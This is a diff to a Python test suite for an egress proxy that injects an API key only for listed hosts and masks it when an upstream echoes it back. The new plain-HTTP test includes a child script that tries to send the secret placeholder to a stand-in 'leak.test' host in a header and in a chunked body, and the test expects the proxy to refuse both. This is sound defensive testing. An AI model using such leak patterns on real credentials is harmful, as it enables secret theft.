@@ -28,6 +28,7 @@ from tests.support.control import cli_json, wait_for
 from tests.support.dns_server import DnsServer
 from tests.support.egressd_cli import EGRESSD, EgressdRun, egressd_exec, write_policy
 from tests.support.https_app import AppHTTPSServer, Reply, Request
+from tests.support.upstreams import EchoHTTPServer
 
 API_ADDR = "198.51.100.44"
 OTHER_ADDR = "198.51.100.45"
@@ -44,9 +45,16 @@ class KeyedApi(AppHTTPSServer):
         self.key = key
 
     def handle(self, request: Request) -> Reply:
-        if request.headers.get("authorization") == f"Bearer {self.key}":
-            return Reply(200, b"key accepted\n")
-        return Reply(401, b"wrong key\n")
+        sent = request.headers.get("authorization", "")
+        if sent != f"Bearer {self.key}":
+            return Reply(401, b"wrong key\n")
+        if request.path.startswith("/echo"):  # an API that quotes the credential back
+            return Reply(
+                200,
+                f"you sent {sent} (encoding {request.headers.get('accept-encoding')})".encode(),
+                {"X-Echo": sent},
+            )
+        return Reply(200, b"key accepted\n")
 
 
 class Recorder(AppHTTPSServer):
@@ -142,7 +150,8 @@ def call(name, method, url, **kw):
     try:
         r = requests.request(method, url, timeout=30, **kw)
         reason = r.headers.get("X-Egressd-Reason")
-        out[name] = {"status": r.status_code, "reason": reason, "body": r.text[:300]}
+        echo = r.headers.get("X-Echo")
+        out[name] = {"status": r.status_code, "reason": reason, "body": r.text[:300], "echo": echo}
     except requests.exceptions.RequestException as exc:
         out[name] = {"error": type(exc).__name__}
 
@@ -152,6 +161,7 @@ def pieces():
 
 call("api", "GET", api + "/v1/models", headers={"Authorization": f"Bearer {ph}"})
 call("api_no_key", "GET", api + "/v1/models")
+call("echo", "GET", api + "/echo", headers={"Authorization": f"Bearer {ph}"})
 call("header", "GET", other + "/h", headers={"X-Anything": ph})
 call("header_upper", "GET", other + "/h", headers={"X-Anything": token.upper()})
 call("query", "GET", other + "/q?k=" + ph)
@@ -194,7 +204,11 @@ def test_requests_gets_the_key_only_where_it_may_go(
     # the listed host got the key and answered 200; without the header nothing is injected
     assert out["api"]["status"] == 200, out
     assert out["api_no_key"]["status"] == 401, out
-    assert [r.headers.get("authorization") for r in api.requests] == [f"Bearer {KEY}", None]
+    assert [r.headers.get("authorization") for r in api.requests] == [f"Bearer {KEY}", None, f"Bearer {KEY}"]
+    # an upstream that echoes the key: the child gets it masked, same length, in body and header
+    masked = "Bearer " + "*" * len(KEY)
+    assert out["echo"]["body"] == f"you sent {masked} (encoding identity)", out["echo"]
+    assert out["echo"]["echo"] == masked, out["echo"]
     # everywhere else: refused, and the placeholder never reached the other host
     for case in ("header", "header_upper", "query", "query_pct", "auth_other"):
         assert out[case]["status"] == 403 and out[case]["reason"] == "secret_exfiltration", (case, out)
@@ -377,3 +391,58 @@ def test_reload_applies_a_new_value_and_the_control_api_never_shows_it(
             watch.wait(10)
     everything = "".join(lines) + view + info + run.stderr
     assert KEY not in everything and KEY2 not in everything
+
+
+def test_plain_http_goes_through_the_same_step(tmp_path: Path, dns: DnsServer, ca_file: Path) -> None:
+    """Absolute-form HTTP (no TLS): the value swapped in for the listed host (and masked in the echo
+    the server sends back), the placeholder refused to another host in a header and in a chunked
+    body split across writes."""
+    with EchoHTTPServer("198.51.100.46") as listed, EchoHTTPServer("198.51.100.47") as leak:
+        dns.add("plain.test", "198.51.100.46")
+        dns.add("leak.test", "198.51.100.47")
+        key_file = tmp_path / "key"
+        key_file.write_text(KEY)
+        text = policy_text(key_file).replace("hosts: [api.test]", "hosts: [plain.test]")
+        text = text.replace("  - other.test\n", "  - plain.test\n  - leak.test\n")
+        policy = write_policy(tmp_path, text)
+        audit = tmp_path / "audit.jsonl"
+        script = (
+            "import json, os, sys, requests\n"
+            "ph = os.environ['API_KEY']\n"
+            "def pieces():\n"
+            "    yield ph[:10].encode()\n"
+            "    yield ph[10:].encode()\n"
+            "out = {}\n"
+            "r = requests.get(sys.argv[1] + '/echo', headers={'Authorization': 'Bearer ' + ph}, timeout=30)\n"
+            "out['listed'] = [r.status_code, r.json()['headers'].get('authorization')]\n"
+            "r = requests.get(sys.argv[2] + '/h', headers={'X-K': ph}, timeout=30)\n"
+            "out['header'] = [r.status_code, r.headers.get('X-Egressd-Reason')]\n"
+            "try:\n"
+            "    r = requests.post(sys.argv[2] + '/b', data=pieces(), timeout=30)\n"
+            "    out['body'] = [r.status_code, r.headers.get('X-Egressd-Reason')]\n"
+            "except requests.exceptions.RequestException as exc:\n"
+            "    out['body'] = [type(exc).__name__]\n"
+            "print(json.dumps(out))\n"
+        )
+        proc = egressd_exec(
+            exec_options(policy, dns, ca_file, audit),
+            [
+                sys.executable,
+                "-c",
+                script,
+                f"http://plain.test:{listed.port}",
+                f"http://leak.test:{leak.port}",
+            ],
+            env=child_env(tmp_path / "home"),
+            timeout=120,
+        )
+        assert proc.returncode == 0, show(proc)
+        out = json.loads(proc.stdout)
+        assert out["listed"] == [200, "Bearer " + "*" * len(KEY)], out
+        assert listed.requests[0]["headers"]["authorization"] == f"Bearer {KEY}"
+        assert out["header"] == [403, "secret_exfiltration"], out
+        assert out["body"] in ([403, "secret_exfiltration"], ["ConnectionError"]), out
+        seen = json.dumps(leak.requests, default=lambda b: b.decode("latin-1"))
+        assert "egressd-secret" not in seen and KEY not in seen
+        assert {r["path"] for r in refused(audit_records(audit))} == {"/h", "/b"}
+        assert KEY not in audit.read_text() and KEY not in proc.stderr.decode()
